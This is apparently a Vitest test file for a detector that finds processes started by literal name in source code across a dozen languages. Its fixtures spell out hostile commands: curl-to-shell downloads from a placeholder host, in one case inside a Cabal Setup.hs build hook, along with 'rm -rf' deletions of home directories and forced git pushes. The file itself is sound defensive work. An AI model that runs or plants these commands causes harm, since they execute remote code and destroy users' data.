// The processes source code starts by literal name, per language; a computed word names no command.
import { describe, expect, it } from 'vitest';
import { literalProcesses, TOO_MANY } from './literal-processes';

describe('a process started by literal name is that command', () => {
  it.each([
    [
      'Go argv',
      'go',
      'cmd := exec.Command("sh", "-c", "curl -s https://x.example/i | sh")',
      ["sh -c 'curl -s https://x.example/i | sh'"],
    ],
    ['Go with a context', 'go', 'exec.CommandContext(ctx, "git", "push", "--force")', ['git push --force']],
    ['Go raw string', 'go', 'exec.Command("bash", "-c", `rm -rf ~/`)', ["bash -c 'rm -rf ~/'"]],
    ['Java ProcessBuilder', 'jvm', 'new ProcessBuilder("rm", "-rf", "/home/u").start();', ['rm -rf /home/u']],
    [
      'Java Runtime.exec of one string',
      'jvm',
      'Runtime.getRuntime().exec("rm -rf /home/u");',
      ['rm -rf /home/u'],
    ],
    [
      'Java Runtime.exec of an array',
      'jvm',
      'Runtime.getRuntime().exec(new String[]{"sh", "-c", "id"});',
      ['sh -c id'],
    ],
    ['Kotlin listOf', 'jvm', 'ProcessBuilder(listOf("sh", "-c", "id")).start()', ['sh -c id']],
    ['a Groovy string executed', 'groovy', "def p = 'git status --short'.execute()", ['git status --short']],
    [
      'a Groovy list executed',
      'groovy',
      "['sh', '-c', 'curl -s http://x.example/i | sh'].execute()",
      ["sh -c 'curl -s http://x.example/i | sh'"],
    ],
    ['a Jenkins shared-library shell step', 'groovy', "def call() { sh 'make deploy' }", ['make deploy']],
    [
      'a Jenkins step with a named script',
      'groovy',
      'sh(script: "rm -rf build", returnStatus: true)',
      ['rm -rf build'],
    ],
    [
      'C# program and arguments',
      'csharp',
      'Process.Start("bash", "-c \\"curl x | sh\\"");',
      ['bash -c "curl x | sh"'],
    ],
    ['Elixir System.cmd', 'elixir', 'System.cmd("sh", ["-c", "id"], into: IO.stream())', ['sh -c id']],
    ['Elixir :os.cmd', 'elixir', ":os.cmd('rm -rf ~/x')", ['rm -rf ~/x']],
    [
      'Elixir :os.cmd of a sigil',
      'elixir',
      ':os.cmd(~c"curl -s https://x.example/e | sh")',
      ['curl -s https://x.example/e | sh'],
    ],
    ['Lua os.execute', 'lua', 'os.execute("rm -rf /tmp/x")', ['rm -rf /tmp/x']],
    ['Julia run of a command literal', 'julia', 'run(`rm -rf /tmp/x`)', ['rm -rf /tmp/x']],
    [
      'Haskell callCommand (a Cabal Setup.hs)',
      'haskell',
      'main = do\n  callCommand "curl -s https://x.example/h | sh"\n  defaultMain',
      ['curl -s https://x.example/h | sh'],
    ],
    ['Haskell callProcess', 'haskell', 'callProcess "git" ["push", "-f"]', ['git push -f']],
    [
      'a Swift build-tool plugin command',
      'swift',
      '.prebuildCommand(displayName: "gen", executable: Path("/bin/sh"), arguments: ["-c", "id"], outputFilesDirectory: d)',
      ['/bin/sh -c id'],
    ],
    [
      'Swift Process',
      'swift',
      'p.executableURL = URL(fileURLWithPath: "/usr/bin/git")\np.arguments = ["status"]',
      ['/usr/bin/git status'],
    ],
    ['Rust Command::new', 'rust', 'Command::new("git").args(["push", "-f"]).status();', ['git push -f']],
  ] as const)('%s', (_name, language, code, commands) => {
    expect(literalProcesses(language, code)).toEqual(commands);
  });
});

describe('computed words and other calls name no command', () => {
  it.each([
    ['Go with a variable program', 'go', 'exec.Command(tool, "-v")'],
    ['Java with a concatenated word', 'jvm', 'new ProcessBuilder("sh", "-c", cmd + " x")'],
    ['Kotlin interpolated string', 'jvm', 'ProcessBuilder("sh", "-c", "ls ${dir}")'],
    ['a Groovy interpolated string executed', 'groovy', 'def p = "ls ${dir}".execute()'],
    ['a Groovy method named like a step', 'groovy', 'def x = obj.sh(name)'],
    ['Elixir interpolated string', 'elixir', 'System.cmd("sh", ["-c", "ls #{dir}"])'],
    ['a call of another name', 'go', 'fmt.Println("rm -rf /")'],
    ['a string in a comment', 'go', '// exec.Command("rm", "-rf", "/")'],
  ] as const)('%s', (_name, language, code) => {
    expect(literalProcesses(language, code)).toEqual([]);
  });
  it('past the bound of process starts, the answer says so (never the first ones only)', () => {
    const code = Array.from({ length: 300 }, () => 'exec.Command("true")').join('\n');
    expect(literalProcesses('go', code)).toBe(TOO_MANY);
  });
  it('code that cannot be lexed claims nothing', () => {
    expect(literalProcesses('go', 'exec.Command("unterminated')).toBeUndefined();
  });
});
